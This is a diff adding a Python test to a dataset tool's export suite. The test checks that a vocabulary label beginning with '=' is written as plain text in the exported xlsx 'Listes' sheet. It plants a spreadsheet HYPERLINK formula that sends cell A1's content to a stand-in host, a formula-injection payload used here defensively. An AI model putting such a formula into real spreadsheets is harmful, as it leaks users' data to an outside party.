@@ -582,3 +582,18 @@ def test_ods_without_libreoffice_says_what_to_install(
     code, output = import_(ods, dataset)
     assert code == 1
     assert "LibreOffice est nécessaire" in output and "enregistrez le classeur en .xlsx" in output
+
+
+def test_a_label_starting_with_equals_stays_text_in_the_lists_sheet(
+    dataset: Path, tmp_path: Path
+) -> None:
+    vocab = dataset / "vocabulaires.yaml"
+    formula = '=HYPERLINK("https://exemple.invalid/?"&A1,"Employeurs")'
+    text = vocab.read_text(encoding="utf-8")
+    assert "    libelle: Employeurs\n" in text
+    vocab.write_text(
+        text.replace("    libelle: Employeurs\n", f"    libelle: '{formula}'\n"), "utf-8"
+    )
+    book = load_workbook(export(dataset, tmp_path / "classeur.xlsx"))
+    cells = [c for row in book["Listes"].iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
